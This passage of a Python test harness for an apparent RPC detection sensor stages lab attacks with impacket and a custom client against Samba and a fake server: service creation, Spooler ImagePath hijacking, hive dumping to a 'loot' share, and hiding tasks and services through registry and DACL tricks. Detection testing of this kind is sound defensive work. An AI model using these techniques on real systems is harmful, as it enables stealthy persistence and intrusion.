        note="net offers %s at most (client ipc max protocol) and only %s (client smb "
        "encrypt = required, client smb3 encryption algorithms). Samba refuses CreateServiceW with nca_s_op_rng_error, as on "
        "the clear server; the request is what the sensor judges. Without a key the sensor "
        "sees only smb.encrypted_session anomalies; with --ntlm-secrets for %s (%s) it "
        "decrypts the session (tests/e2e/test_smb3_decrypt.py)." % (
            _proto, _cipher, LAB_USER, LAB_PASSWORD),
        calls=NET_ENC_CALLS)

scenario(
    "smb3_encrypted_impacket_services",
    title="impacket services.py create against Samba with smb encrypt = required: SMB 3.0 "
    "encrypted (AES-128-CCM; impacket 0.10 offers 3.0 at most, and CCM only)",
    server="samba-enc", keys=True,
    auth="SMB 3.0 session NTLMv2, then every message in a TRANSFORM_HEADER (AES-128-CCM); no "
    "RPC-level auth",
    steps=[{"argv": tool("services.py", CREDS + "@" + SAMBA_ENC_IP, "create", "-name",
                         "LabEncSvc", "-display", "Lab Encrypted Service", "-path",
                         r"C:\Windows\Temp\impenc.exe")}],
    note="impacket encrypts because the server asks for it. Samba refuses CreateServiceW "
    "(nca_s_op_rng_error).",
    calls=[scm_open(), svc_create("LabEncSvc", r"C:\Windows\Temp\impenc.exe",
                                  "Lab Encrypted Service")])

scenario(
    "smb3_encrypted_impacket_psexec",
    title="impacket psexec against Samba with smb encrypt = required: the upload to ADMIN$ "
    "and the svcctl calls SMB 3 encrypted",
    server="samba-enc", keys=True,
    auth="SMB 3.0 session NTLMv2, then every message in a TRANSFORM_HEADER (AES-128-CCM); no "
    "RPC-level auth",
    steps=[{"argv": tool("psexec.py", CREDS + "@" + SAMBA_ENC_IP, "cmd.exe /c whoami",
                         "-service-name", "LabEncPsexec", "-remote-binary-name", "labencpsx.exe"),
            "stdin_open": True}],
    note="As samba_psexec, encrypted: Samba refuses CreateServiceW, psexec deletes the file.",
    calls=[call("srvsvc", "NetrShareEnum", "other"), scm_open(), svc_open("LabEncPsexec"),
           svc_create("LabEncPsexec", r"%systemroot%\labencpsx.exe")])

SVC_KEY = r"HKLM\SYSTEM\CurrentControlSet\Services"
SCHED_KEY = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule"
TREE_KEY = SCHED_KEY + r"\TaskCache\Tree"
REG_TARGET = CREDS + "@" + SAMBA_IP


def reg(*argv):
    """impacket's reg.py against Samba's winreg."""
    return {"argv": tool("reg.py", REG_TARGET, *argv)}


def reg_add_calls(key, value=None, cls="other", **args):
    """What reg.py add asks winreg: OpenLocalMachine, BaseRegOpenKey of the key (of its
    parent when it makes the key: then BaseRegCreateKey of it), BaseRegSetValue."""
    sub = key.split("\\", 1)[1]
    out = [call(WINREG, "OpenLocalMachine", "other", key="HKLM")]
    if value is None:
        parent = key.rsplit("\\", 1)[0]
        out.append(call(WINREG, "BaseRegOpenKey", "other", key=parent))
        a = {"key": key, "subkey": sub}
        a.update(args)
        out.append(call(WINREG, "BaseRegCreateKey", "create", **a))
        return out
    out.append(call(WINREG, "BaseRegOpenKey", "other", key=key, subkey=sub))
    a = {"key": key, "value_name": value}
    a.update(args)
    out.append(call(WINREG, "BaseRegSetValue", cls, **a))
    return out


# reg.py first asks svcctl whether RemoteRegistry runs (impacket's RemoteOperations)
REG_SVC_CHECK = [scm_open(), svc_open("RemoteRegistry"),
                 call(SVCCTL, "RQueryServiceStatus", "read", service_name="RemoteRegistry")]
LABREG = SVC_KEY + r"\LabRegSvc"
LABREG_BIN = r"%SystemRoot%\Temp\labreg.exe -k run"
SPOOL_BIN = r"C:\Windows\Temp\spool.exe"

scenario(
    "samba_reg_service",
    title="impacket reg.py against Samba's winreg: a service's key written (LabRegSvc: "
    "ImagePath, Start, Type), Spooler's ImagePath changed, a value queried, a key under "
    "Schedule refused, a hive save refused",
    server="samba", auth="SMB3 session NTLMv2; no RPC-level auth (reg.py has no option for it)",
    steps=[reg("add", "-keyName", LABREG),
           reg("add", "-keyName", LABREG, "-v", "ImagePath", "-vt", "REG_EXPAND_SZ", "-vd",
               LABREG_BIN),
           reg("add", "-keyName", LABREG, "-v", "Start", "-vt", "REG_DWORD", "-vd", "3"),
           reg("add", "-keyName", LABREG, "-v", "Type", "-vt", "REG_DWORD", "-vd", "16"),
           reg("add", "-keyName", SVC_KEY + r"\Spooler", "-v", "ImagePath", "-vt",
               "REG_EXPAND_SZ", "-vd", SPOOL_BIN),
           reg("query", "-keyName", LABREG, "-v", "ImagePath"),
           reg("add", "-keyName", SCHED_KEY),
           reg("save", "-keyName", r"HKLM\SOFTWARE", "-o", r"\\192.0.2.10\loot")],
    note="Each reg.py command is a connection of its own, and each first asks svcctl whether "
    "RemoteRegistry runs (Samba says it does). Samba keeps the keys it is given under "
    "Services (LabRegSvc is created, disposition REG_CREATED_NEW_KEY; the ImagePath set "
    "over the next connection is the service's creation through the registry, create, "
    "T1543.003; Spooler's ImagePath is a change, modify). Samba refuses to create keys "
    "under SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion (ERROR_NOT_SUPPORTED, 0x32, its "
    "CurrentVersion backend is read-only), so the TaskCache scenario runs against the fake "
    "server (fake_reg_hidden_task); and it refuses BaseRegSaveKey to a UNC path, and to "
    "C:\\, the server's own C$ and a relative name as well, tried in a run before this one "
    "(ERROR_BAD_PATHNAME, 0xa1): the request is what the sensor judges (hive_saved).",
    calls=REG_SVC_CHECK + reg_add_calls(LABREG, service_name="LabRegSvc")
    + REG_SVC_CHECK + reg_add_calls(LABREG, value="ImagePath", cls="create",
                                    value_type="REG_EXPAND_SZ", data=LABREG_BIN,
                                    service_name="LabRegSvc", binary_path=LABREG_BIN)
    + REG_SVC_CHECK + reg_add_calls(LABREG, value="Start", cls="modify", value_type="REG_DWORD",
                                    data=3, start_type="demand_start")
    + REG_SVC_CHECK + reg_add_calls(LABREG, value="Type", cls="modify", value_type="REG_DWORD",
                                    data=16, service_type=["win32_own_process"])
    + REG_SVC_CHECK + reg_add_calls(SVC_KEY + r"\Spooler", value="ImagePath", cls="modify",
                                    value_type="REG_EXPAND_SZ", data=SPOOL_BIN,
                                    service_name="Spooler", binary_path=SPOOL_BIN)
    + REG_SVC_CHECK + [call(WINREG, "OpenLocalMachine", "other", key="HKLM"),
                       call(WINREG, "BaseRegOpenKey", "other", key=LABREG),
                       call(WINREG, "BaseRegQueryValue", "read", key=LABREG,
                            value_name="ImagePath")]
    + REG_SVC_CHECK + reg_add_calls(SCHED_KEY)
    + REG_SVC_CHECK + [call(WINREG, "OpenLocalMachine", "other", key="HKLM"),
                       call(WINREG, "BaseRegOpenKey", "other", key=r"HKLM\SOFTWARE"),
                       call(WINREG, "BaseRegSaveKey", "read", key=r"HKLM\SOFTWARE",
                            file=r"\\192.0.2.10\loot\SOFTWARE.save", hive_saved=True)])

HIDDEN = TREE_KEY + r"\LabHiddenTask"
HIDDEN_SD = "O:BAG:SYD:(A;;FA;;;BA)(A;;FA;;;SY)"
FAKE_REG_TARGET = CREDS + "@" + FAKE_IP


def fake_reg(*argv):
    return {"argv": tool("reg.py", FAKE_REG_TARGET, *argv)}


scenario(
    "fake_reg_hidden_task",
    title="impacket reg.py against the fake server's winreg: a task's TaskCache\\Tree key made "
    "with an SD value, the SD deleted and its Index set to 0 (the task hidden)",
    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth",
    steps=[fake_reg("add", "-keyName", HIDDEN),
           fake_reg("add", "-keyName", HIDDEN, "-v", "SD", "-vt", "REG_SZ", "-vd", HIDDEN_SD),
           fake_reg("add", "-keyName", HIDDEN, "-v", "Index", "-vt", "REG_DWORD", "-vd", "3"),
           fake_reg("delete", "-keyName", HIDDEN, "-v", "SD"),
           fake_reg("add", "-keyName", HIDDEN, "-v", "Index", "-vt", "REG_DWORD", "-vd", "0")],
    note="Samba cannot hold these keys (samba_reg_service), so the fake server answers winreg "
    "from a dictionary of keys that has the Windows path down to TaskCache\\Tree. Deleting a "
    "task's SD value, or setting its Index to 0, hides the task from schtasks and the Task "
    "Scheduler (the Tarrask technique): both are the hidden_task indicator (T1564) on a call "
    "routed through the registry (T1053.005). Windows keeps SD as REG_BINARY; reg.py cannot "
    "send binary data from its command line (impacket 0.10 packs the text as characters and "
    "fails before sending), so the lab writes it as REG_SZ (an SDDL): the deletion that "
    "hides the task is the same call whatever the type.",
    calls=REG_SVC_CHECK + reg_add_calls(HIDDEN)
    + REG_SVC_CHECK + reg_add_calls(HIDDEN, value="SD", cls="modify", value_type="REG_SZ",
                                    data=HIDDEN_SD)
    + REG_SVC_CHECK + reg_add_calls(HIDDEN, value="Index", cls="modify", value_type="REG_DWORD",
                                    data=3)
    + REG_SVC_CHECK + [call(WINREG, "OpenLocalMachine", "other", key="HKLM"),
                       call(WINREG, "BaseRegOpenKey", "other", key=HIDDEN),
                       call(WINREG, "BaseRegDeleteValue", "delete", key=HIDDEN, value_name="SD",
                            path=r"\LabHiddenTask", hidden_by="SD deleted")]
    + REG_SVC_CHECK + reg_add_calls(HIDDEN, value="Index", cls="modify", value_type="REG_DWORD",
                                    data=0, path=r"\LabHiddenTask", hidden_by="Index set to 0"))

# ---------------------------------------------------------------- security descriptors

# sc sdset's hiding DACL (deny change config, query status, stop, pause, delete to IU, SU, BA),
# the rest the SCM's default; what the fake server answers before: the SCM's default
HIDE_SVC_SDDL = ("D:(D;;DCLCWPDTSD;;;IU)(D;;DCLCWPDTSD;;;SU)(D;;DCLCWPDTSD;;;BA)"
                 "(A;;CCLCSWLOCRRC;;;IU)(A;;CCLCSWLOCRRC;;;SU)(A;;CCLCSWRPWPDTLOCRRC;;;SY)"
                 "(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)")
DEFAULT_SVC_SDDL = ("D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)"
                    "(A;;CCLCSWLOCRRC;;;IU)(A;;CCLCSWLOCRRC;;;SU)S:(AU;FA;"
                    "CCDCLCSWRPWPDTLOCRSDRCWDWO;;;WD)")


def svc_query_security(name):
    return call(SVCCTL, "RQueryServiceObjectSecurity", "read", service_name=name,
                security_information=["dacl"])


scenario(
    "sd_hide_service",
    title="sc sdset's trick over svcctl: a service's DACL replaced by one that denies query to "
    "interactive users, services and administrators (RSetServiceObjectSecurity)",
    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth",
    steps=[{"argv": client("sd-hide-service", FAKE_IP, "LabUpdater", HIDE_SVC_SDDL)}],
    note="The client reads the descriptor (RQueryServiceObjectSecurity, asked twice: the first "
    "buffer is too small, ERROR_INSUFFICIENT_BUFFER with the size needed), sets the hiding DACL "
    "built from its SDDL by impacket's ldaptypes (tests/lab/sd_build.py) and reads it back. "
    "The request is encoded as MS-SCMR's IDL has it (the descriptor a [ref] conformant array): "
    "impacket 0.10's own RSetServiceObjectSecurity adds a referent id before the array (the "
    "sensor reads both) and its hRSetServiceObjectSecurity never sends the bytes. The fake "
    "server answers the SCM's default descriptor until one is set. Denying LC "
    "(SERVICE_QUERY_STATUS) hides the service from sc query and Get-Service: hidden_service "
    "(T1564).",
    calls=[scm_open(), svc_open("LabUpdater"),
           svc_query_security("LabUpdater"), svc_query_security("LabUpdater"),
           call(SVCCTL, "RSetServiceObjectSecurity", "modify", service_name="LabUpdater",
                security_information=["dacl"], **{
                    "security_descriptor.sddl": HIDE_SVC_SDDL,
                    "security_descriptor.read_denied_to": "IU SU BA",
                    "security_descriptor.dacl_denies": ["(D;;DCLCWPDTSD;;;IU)",
                                                        "(D;;DCLCWPDTSD;;;SU)",
                                                        "(D;;DCLCWPDTSD;;;BA)"]}),
           svc_query_security("LabUpdater"), svc_query_security("LabUpdater"),
           svc_close(), svc_close()])

scenario(
    "svc_create_then_hide",
    title="a service created (impacket services.py), then hidden by sc sdset's DACL "
    "(RSetServiceObjectSecurity, the lab client) over another connection",
    server="fake", auth="SMB2 sessions NTLMv2; no RPC-level auth",
    steps=[{"argv": tool("services.py", CREDS + "@" + FAKE_IP, "create", "-name", "LabHideSvc",
                         "-display", "Lab Hidden Service", "-path",
                         r"C:\Windows\Temp\labhide.exe")},
           {"argv": client("sd-hide-service", FAKE_IP, "LabHideSvc", HIDE_SVC_SDDL)}],
    note="Two connections from one client to one server, the same service name: one story, "
    "service_create_hide (T1543.003, T1564; sid 4300307). The service is never started here: "
    "it would be on the next boot, and nobody listing services would see it.",
    calls=[scm_open(), svc_create("LabHideSvc", r"C:\Windows\Temp\labhide.exe",
                                  "Lab Hidden Service"), svc_close(),
           scm_open(), svc_open("LabHideSvc"),
           svc_query_security("LabHideSvc"), svc_query_security("LabHideSvc"),
           call(SVCCTL, "RSetServiceObjectSecurity", "modify", service_name="LabHideSvc",
                security_information=["dacl"], **{
                    "security_descriptor.sddl": HIDE_SVC_SDDL,
                    "security_descriptor.read_denied_to": "IU SU BA"}),
           svc_query_security("LabHideSvc"), svc_query_security("LabHideSvc"),
           svc_close(), svc_close()])

scenario(
    "samba_sd_hide_service",
    title="sc sdset's trick against Samba 4.17's svcctl: Spooler's DACL read, replaced by the "
    "hiding one, read again",
    server="samba", auth="SMB3 session NTLMv2; no RPC-level auth",
    steps=[{"argv": client("sd-hide-service", SAMBA_IP, "Spooler", HIDE_SVC_SDDL)}],
    note="The same client as sd_hide_service, against a real server: Samba answers with the "
    "descriptor it keeps for Spooler, and parses the request by MS-SCMR's IDL (the "
    "descriptor a [ref] array), so the encoding the lab sends is the one a server accepts.",
    calls=[scm_open(), svc_open("Spooler"),
           svc_query_security("Spooler"), svc_query_security("Spooler"),
           call(SVCCTL, "RSetServiceObjectSecurity", "modify", service_name="Spooler",
                security_information=["dacl"], **{
                    "security_descriptor.sddl": HIDE_SVC_SDDL,
                    "security_descriptor.read_denied_to": "IU SU BA"}),
           svc_query_security("Spooler"), svc_query_security("Spooler"),
           svc_close(), svc_close()])

HIDE_TASK_SDDL = "D:(A;;FA;;;SY)(D;;FRFX;;;BA)(D;;FRFX;;;IU)"
HIDE_TASK_SET_SDDL = "D:(D;;GA;;;WD)(A;;FA;;;SY)"
HIDE_TASK_CMD, HIDE_TASK_ARGS = r"C:\Windows\System32\cmd.exe", r"/c whoami > C:\Windows\Temp\w.txt"

scenario(
    "sd_hide_task",
    title="a task registered with an SDDL that denies reading it to administrators and "
    "interactive users, then its security set to deny everyone (SchRpcSetSecurity)",
    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth",
    steps=[{"argv": client("sd-hide-task", FAKE_IP, r"\LabHiddenSd", HIDE_TASK_CMD,
                           HIDE_TASK_ARGS, HIDE_TASK_SDDL, HIDE_TASK_SET_SDDL)}],
    note="impacket's hSchRpcRegisterTask sends the sddl argument as given, and "
    "hSchRpcSetSecurity the new one. The scheduler enumerates only the tasks a caller may read: "
    "a deny of FILE_READ_DATA (in FR) or GENERIC_ALL hides the task from schtasks /query and "
    "the Task Scheduler: hidden_task (T1564, T1053.005).",
    calls=[call(TSCH, "SchRpcRegisterTask", "create", path=r"\LabHiddenSd", sddl=HIDE_TASK_SDDL,
                **{"task.actions": [{"type": "exec", "command": HIDE_TASK_CMD,
                                     "arguments": HIDE_TASK_ARGS}],
                   "security_descriptor.read_denied_to": "IU BA",
                   "security_descriptor.dacl_denies": ["(D;;FRFX;;;BA)", "(D;;FRFX;;;IU)"]}),
           call(TSCH, "SchRpcSetSecurity", "modify", path=r"\LabHiddenSd", sddl=HIDE_TASK_SET_SDDL,
                **{"security_descriptor.read_denied_to": "WD",
                   "security_descriptor.dacl_denies": ["(D;;GA;;;WD)"]}),
           call(TSCH, "SchRpcDelete", "delete", path=r"\LabHiddenSd")])

KEY_SD_SDDL = "D:(D;;KR;;;BA)(D;;KR;;;IU)(A;;KA;;;SY)"
KEY_SD_TASK = TREE_KEY + r"\LabKeySdTask"

scenario(
    "sd_key_security",
    title="BaseRegSetKeySecurity on a task's TaskCache\\Tree key: a DACL that denies reading "
    "it to administrators and interactive users",
    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth",
    steps=[{"argv": client("sd-key", FAKE_IP, KEY_SD_TASK.split("\\", 1)[1], KEY_SD_SDDL)}],
    note="The client (impacket's rrp, the descriptor from tests/lab/sd_build.py) makes the key "
    "and sets its DACL. Denying KR (KEY_QUERY_VALUE, KEY_ENUMERATE_SUB_KEYS, KEY_NOTIFY) on a "
    "task's Tree key keeps the scheduler's readers from it: hidden_task (T1564).",
    calls=[call(WINREG, "OpenLocalMachine", "other", key="HKLM"),
           call(WINREG, "BaseRegCreateKey", "create", key=KEY_SD_TASK,
                subkey=KEY_SD_TASK.split("\\", 1)[1]),
           call(WINREG, "BaseRegSetKeySecurity", "modify", key=KEY_SD_TASK,
                security_information=["dacl"], **{
                    "security_descriptor.sddl": KEY_SD_SDDL,
                    "security_descriptor.read_denied_to": "IU BA"}),
           call(WINREG, "BaseRegCloseKey", "other"), call(WINREG, "BaseRegCloseKey", "other")])

TASKS_KEY = SCHED_KEY + r"\TaskCache\Tasks\{6F1E2D3C-4B5A-4978-8695-A4B3C2D1E0F9}"
ACTIONS_CMD = r"C:\Windows\Temp\labdrop.exe"
ACTIONS_ARGS = "-connect 192.0.2.10 -hidden"

scenario(
    "fake_reg_task_actions",
    title="A task made without the scheduler's API: its TaskCache\\Tasks\\{GUID} key, Path and "
    "Actions blob (REG_BINARY) written over winreg",
    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth",
    steps=[{"argv": client("task-actions", FAKE_IP, TASKS_KEY.split("\\", 1)[1],
                           r"\LabRegTask", ACTIONS_CMD, ACTIONS_ARGS)}],
    note="The client (impacket's rrp) writes the key and values the scheduler keeps for a task; "
    "the Actions blob (version 3, context LocalSystem, one exec action) is built by "
    "tests/lab/lab_client.py from the format the winreg-tasks project documents. A task's "
    "actions written there are a task creation routed through the registry (T1053.005), "
    "decoded into args.task.actions as the task XML's are.",
    calls=[call(WINREG, "OpenLocalMachine", "other", key="HKLM"),
           call(WINREG, "BaseRegCreateKey", "create", key=TASKS_KEY,
                subkey=TASKS_KEY.split("\\", 1)[1]),
           call(WINREG, "BaseRegSetValue", "modify", key=TASKS_KEY, value_name="Path",
                value_type="REG_SZ", data=r"\LabRegTask"),
           call(WINREG, "BaseRegSetValue", "create", key=TASKS_KEY, value_name="Actions",
                value_type="REG_BINARY", task_id=TASKS_KEY.rsplit("\\", 1)[1], **{
                    "task.actions_version": 3, "task.actions_context": "LocalSystem",
                    "task.actions": [{"type": "exec", "command": ACTIONS_CMD,
                                      "arguments": ACTIONS_ARGS}]}),
           call(WINREG, "BaseRegCloseKey", "other"), call(WINREG, "BaseRegCloseKey", "other")])

# a binary for the upload scenarios: an MZ header, then bytes that depend on nothing but
# their place (tests/e2e/test_smb_files.py makes the same and compares the digest)
DROP_SIZE = 100000
DROP_BYTES = ("import hashlib,sys\nb=bytearray(b'MZ')\ni=0\nwhile len(b)<%d:\n"
              " b+=hashlib.sha256(b'labdrop%%d'%%i).digest();i+=1\n"
              "open(sys.argv[1],'wb').write(bytes(b[:%d]))") % (DROP_SIZE, DROP_SIZE)
SMBCLIENT_AUTH = ["-U", "Administrator%Passw0rd!", "-W", "LAB"]

scenario(
    "samba_smbclient_put",
    title="smbclient puts a binary on Samba's ADMIN$ three times: over SMB1 (NT1), SMB 3.1.1, "
    "and SMB 3 encrypted",
    server="samba", keys=True, files=True, auth="NTLMv2 sessions; no DCE/RPC",
    steps=[{"argv": [PY, "-c", DROP_BYTES, "@WORK@/labdrop.exe"]},
           {"argv": ["smbclient", "//" + SAMBA_IP + "/ADMIN$"] + SMBCLIENT_AUTH +
            ["-m", "NT1", "--option=client min protocol=NT1",
             "-c", "put @WORK@/labdrop.exe labdrop1.exe"]},
           {"argv": ["smbclient", "//" + SAMBA_IP + "/ADMIN$"] + SMBCLIENT_AUTH +
            ["-c", "put @WORK@/labdrop.exe labdrop3.exe"]},
           {"argv": ["smbclient", "//" + SAMBA_ENC_IP + "/ADMIN$"] + SMBCLIENT_AUTH +
            ["--client-protection=encrypt", "-c", "put @WORK@/labdrop.exe labdropenc.exe"]}],
    note="Three connections, no RPC: the records are fileinfo, one per upload (the encrypted "
    "one only with the operator's keys, --ntlm-secrets). smbclient writes in its own block "
    "sizes (SMB1 WRITE_ANDX of 64 KiB or less; SMB2 WRITEs up to the negotiated maximum); "
    "test_smb_files checks each record's size and SHA-256 against the file it made.",
    calls=[])

# ---------------------------------------------------------------- running

def sh(cmd, check=True, **kw):
    return subprocess.run(cmd, check=check, capture_output=True, text=True, **kw)


def nsx(ns, *cmd):
    return ["ip", "netns", "exec", ns] + list(cmd)


def wait_tcp(ns, ip, port, timeout=20):
    code = ("import socket,sys,time\nd=time.time()+%d\nwhile time.time()<d:\n"
            " try:\n  socket.create_connection(('%s',%d),1).close();sys.exit(0)\n"
            " except OSError: time.sleep(0.1)\nsys.exit(1)") % (timeout, ip, port)
    if subprocess.run(nsx(ns, PY, "-c", code)).returncode:
        raise RuntimeError("%s:%d not answering from %s" % (ip, port, ns))


def wait_text(path, text, proc, what, timeout=20):
    deadline = time.time() + timeout
    while time.time() < deadline:
        with open(path, errors="replace") as f:
            if text in f.read():
                return
        if proc.poll() is not None:
            break
        time.sleep(0.05)
    with open(path, errors="replace") as f:
        raise RuntimeError("%s did not start: %s" % (what, f.read()[-2000:]))


class Lab:
    def __init__(self, prefix, work, binary):
        self.p, self.work, self.bin = prefix, work, binary
        self.cli, self.srv, self.mon = prefix + "cli", prefix + "srv", prefix + "mon"
        self.procs = []
        self.keep_live = False

    def up(self, need_dc=False):
        sh([os.path.join(HERE, "netns.sh"), "up", self.p])
        self.client_env()
        self.start_samba("samba", SAMBA_IP, "off")
        self.start_samba("samba-enc", SAMBA_ENC_IP, "required")
        waits = [(SAMBA_IP, 445), (SAMBA_IP, 135), (FAKE_IP, 445), (FAKE_IP, 135),
                 (FAKE_IP, 49670), (SAMBA_ENC_IP, 445), (SAMBA_ENC_IP, 135)]
        self.keytabs = {}
        if need_dc:
            self.start_dc()
            waits += [(DC_IP, 88), (DC_IP, 135)]
        self.start_fake()
        self.write_secrets()
        for ip, port in waits:
            wait_tcp(self.cli, ip, port)
        # the monitor sees the scenarios only: let the handshakes of the waits go by
        time.sleep(0.5)

    def spawn(self, cmd, log, **kw):
        f = open(log, "w")
        p = subprocess.Popen(cmd, stdout=f, stderr=subprocess.STDOUT, start_new_session=True, **kw)
        self.procs.append(p)
        return p

    def write_secrets(self):
        """The lab account's NT hash, for the sensor of scenarios that need a key."""
        from impacket import ntlm  # Debian's python3-impacket
        self.secrets = os.path.join(self.work, "lab.secrets")
        fd = os.open(self.secrets, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        with os.fdopen(fd, "w") as f:
            f.write("%s:%s\n" % (LAB_USER, ntlm.compute_nthash(LAB_PASSWORD).hex()))

    def sensor_keys(self, sc):
        if sc.get("keys") == "keytab":  # Kerberos: the keytab the DC exported
            return ["--keytab", self.keytabs[sc["keytab"]]]
        return ["--ntlm-secrets", self.secrets] if sc.get("keys") else []

    def start_samba(self, name, ip, encrypt):
        d = os.path.join(self.work, name)
        for sub in ("private", "lock", "state", "cache", "run", "ncalrpc", "bind-dns", "log",
                    "share/admin/Temp", "share/c"):
            os.makedirs(os.path.join(d, sub), exist_ok=True)
        with open(os.path.join(HERE, "smb.conf.in")) as f:
            conf = f.read().replace("@DIR@", d).replace("@IP@", ip).replace("@ENCRYPT@", encrypt)
        self.smbconf = os.path.join(d, "smb.conf")
        with open(self.smbconf, "w") as f:
            f.write(conf)
        with open(os.path.join(d, "users.map"), "w") as f:
            f.write("root = Administrator\n")
        subprocess.run(["smbpasswd", "-c", self.smbconf, "-a", "-s", "root"],
                       input="Passw0rd!\nPassw0rd!\n", check=True, capture_output=True, text=True,
                       env=dict(os.environ, _NO_WINBINDD="1"))
        env = dict(os.environ, _NO_WINBINDD="1")  # no host winbindd in our lookups
        self.spawn(nsx(self.srv, "smbd", "-F", "--no-process-group", "-s", self.smbconf,
                       "--debug-stdout", "-d1"), os.path.join(d, "smbd.out"), env=env)
        self.spawn(nsx(self.srv, "/usr/libexec/samba/samba-dcerpcd", "-F", "--no-process-group",
                       "--libexec-rpcds", "-s", self.smbconf, "--debug-stdout", "-d1"),
                   os.path.join(d, "samba-dcerpcd.out"), env=env)

    def client_env(self):
        """Kerberos for the client's tools: a krb5.conf naming the lab's KDC, a ticket cache
        of the run, and the DC's name in the client namespace's /etc/hosts (ip netns exec
        mounts /etc/netns/NAME/hosts over it)."""
        self.krb5_conf = os.path.join(self.work, "krb5.conf")
        self.krb5_cc = os.path.join(self.work, "krb5cc")
        conf = ("[libdefaults]\n\tdefault_realm = %s\n\tdns_lookup_kdc = false\n"
                "\tdns_lookup_realm = false\n\trdns = false\n%%s[realms]\n\t%s = {\n"
                "\t\tkdc = %s\n\t}\n" % (REALM, REALM, DC_IP))
        with open(self.krb5_conf, "w") as f:
            f.write(conf % "")
        # a client that asks for rc4-hmac session keys only (MIT's and Heimdal's names)
        rc4 = "arcfour-hmac-md5"
        with open(os.path.join(self.work, "krb5-rc4.conf"), "w") as f:
            f.write(conf % "".join("\t%s = %s\n" % (k, rc4) for k in (
                "default_tgs_enctypes", "default_tkt_enctypes", "permitted_enctypes",
                "default_etypes")) + "\tallow_weak_crypto = true\n")
        self.hosts_dir = os.path.join("/etc/netns", self.cli)
        os.makedirs(self.hosts_dir, exist_ok=True)
        with open(os.path.join(self.hosts_dir, "hosts"), "w") as f:
            f.write("127.0.0.1 localhost\n%s %s labdc\n" % (DC_IP, DC_NAME))
        self.env = dict(os.environ, KRB5_CONFIG=self.krb5_conf, KRB5CCNAME=self.krb5_cc)

    def start_dc(self):
        """A Samba AD DC for LAB.EXAMPLE on DC_IP, provisioned for this run (no DNS), with the
        service account whose SPN the fake server answers to; the keytabs of both exported."""
        d = os.path.join(self.work, "dc")
        conf = os.path.join(d, "etc", "smb.conf")
        sh(["samba-tool", "domain", "provision", "--targetdir=" + d, "--realm=" + REALM,
            "--domain=LAB", "--server-role=dc", "--dns-backend=NONE", "--adminpass=Passw0rd!",
            "--host-name=labdc", "--host-ip=" + DC_IP, "--option=interfaces=" + DC_IP,
            "--option=bind interfaces only=yes", "--option=dns update command=/bin/true"])
        # (its winbindd listens where the host's would, /run/samba/winbindd: the DC's smbd
        # finds it nowhere else; the lab's other Sambas run with _NO_WINBINDD and do not ask)
        sh(["samba-tool", "user", "create", SVC_ACCOUNT, SVC_PASSWORD, "-s", conf])
        for spn in ("host/" + FAKE_IP, "cifs/" + FAKE_IP):
            sh(["samba-tool", "spn", "add", spn, SVC_ACCOUNT, "-s", conf])
        for name, principal in (("labrpc", SVC_ACCOUNT), ("dc", "LABDC$")):
            kt = os.path.join(d, name + ".keytab")
            sh(["samba-tool", "domain", "exportkeytab", kt, "--principal=" + principal, "-s",
                conf])
            os.chmod(kt, 0o600)
            self.keytabs[name] = kt
        self.spawn(nsx(self.srv, "samba", "-i", "-M", "single", "-s", conf, "--debug-stdout",
                       "-d1"), os.path.join(d, "samba.out"))

    def start_fake(self):
        d = os.path.join(self.work, "fake")
        os.makedirs(d, exist_ok=True)
        self.fake_log = os.path.join(self.work, "fake.log")
        keytab = ["--keytab", self.keytabs["labrpc"]] if "labrpc" in self.keytabs else []
        self.spawn(nsx(self.srv, PY, os.path.join(HERE, "fake_rpc_server.py"), "--root", d,
                       "--log", self.fake_log, *keytab), os.path.join(self.work, "fake.out"))

    def down(self):
        for p in self.procs:
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGTERM)
                except ProcessLookupError:
                    pass
        for p in self.procs:
            try:
                p.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(p.pid, signal.SIGKILL)
                p.wait()
        sh([os.path.join(HERE, "netns.sh"), "down", self.p], check=False)
        if getattr(self, "hosts_dir", None):
            shutil.rmtree(self.hosts_dir, ignore_errors=True)

    def run(self, sc, out):
        """Captures one scenario; returns (tool transcripts, live check text)."""
        name = sc["name"]
        wd = os.path.join(self.work, name)
        os.makedirs(wd, exist_ok=True)
        pcap = os.path.join(wd, name + ".pcap")
        dump = self.spawn(nsx(self.mon, "tcpdump", "-i", MONITOR, "-n", "-U", "-s", "0",
                              "-w", pcap, "tcp"), os.path.join(wd, "tcpdump.txt"))
        wait_text(os.path.join(wd, "tcpdump.txt"), "listening on", dump, "tcpdump")
        livedir = os.path.join(wd, "live")
        os.makedirs(livedir, exist_ok=True)
        sensor = self.spawn(nsx(self.mon, self.bin, "-i", MONITOR, "-l", livedir,
                                *self.sensor_keys(sc)),
                            os.path.join(wd, "sensor.txt"))
        wait_text(os.path.join(wd, "sensor.txt"), "capturing on", sensor, "rpcsentry")
        transcripts = []
        for step in sc["steps"]:
            # stdin_open: a pipe kept open while the tool runs (psexec's console
            # thread would spin on end-of-file); stdin: lines typed, then closed
            stdin = subprocess.PIPE if step.get("stdin_open") or step.get("stdin") else None
            t0 = time.time()
            argv = [a.replace("@KRB5CC@", self.krb5_cc).replace("@WORK@", self.work)
                    for a in step["argv"]]
            env = dict(self.env, **{k: v.replace("@WORK@", self.work)
                                    for k, v in step.get("env", {}).items()})
            with tempfile.TemporaryFile("w+") as outf:
                p = subprocess.Popen(nsx(self.cli, *argv), cwd=HERE, stdin=stdin,
                                     stdout=outf, stderr=subprocess.STDOUT, text=True,
                                     env=env)
                if step.get("stdin"):
                    p.stdin.write(step["stdin"])
                    p.stdin.flush()
                if stdin and not step.get("stdin_open"):
                    p.stdin.close()
                try:
                    p.wait(timeout=step.get("timeout", 90))
                except subprocess.TimeoutExpired:
                    p.kill()
                    p.wait()
                finally:
                    if p.stdin and not p.stdin.closed:
                        p.stdin.close()
                outf.seek(0)
                output = outf.read()
            if p.returncode < 0:
